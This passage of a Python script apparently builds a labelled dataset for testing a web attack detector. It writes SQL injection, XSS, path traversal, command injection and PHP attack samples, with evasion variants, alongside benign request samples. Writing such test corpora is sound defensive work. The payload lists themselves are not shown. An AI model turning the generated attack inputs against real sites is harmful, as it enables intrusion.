                    (b_signed_url, 3), (b_patch_put_delete, 6), (b_graphql, 3), (b_contact_form, 4), (b_unicode, 4),
                    (b_misc_headers, 4), (b_names_query, 3)]


def gen_benign(n):
    fns = [f for f, _ in BENIGN_TEMPLATES]
    ws = [w for _, w in BENIGN_TEMPLATES]
    out, seen = [], set()
    while len(out) < n:
        r = rng.choices(fns, ws)[0]()
        line = dumps(r)
        if line not in seen:
            seen.add(line)
            out.append(line)
    return out


def main():
    attacks = []
    attacks += gen_generic("sqli", SQLI, SQLI_EVASIONS, ATTACKS_PER_CLASS)
    attacks += gen_generic("xss", XSS, XSS_EVASIONS, ATTACKS_PER_CLASS)
    attacks += gen_traversal(ATTACKS_PER_CLASS)
    attacks += gen_cmdi(ATTACKS_PER_CLASS)
    attacks += gen_php(ATTACKS_PER_CLASS)
    benign = gen_benign(BENIGN_COUNT)
    for name, lines in (("attacks.jsonl", attacks), ("benign.jsonl", benign)):
        with open(os.path.join(HERE, name), "w", encoding="utf-8", newline="\n") as f:
            f.write("\n".join(lines) + "\n")
    counts = {}
    for l in attacks:
        c = json.loads(l)["class"]
        counts[c] = counts.get(c, 0) + 1
    print("attacks:", counts, "total", len(attacks))
    print("benign:", len(benign))


if __name__ == "__main__":
    main()
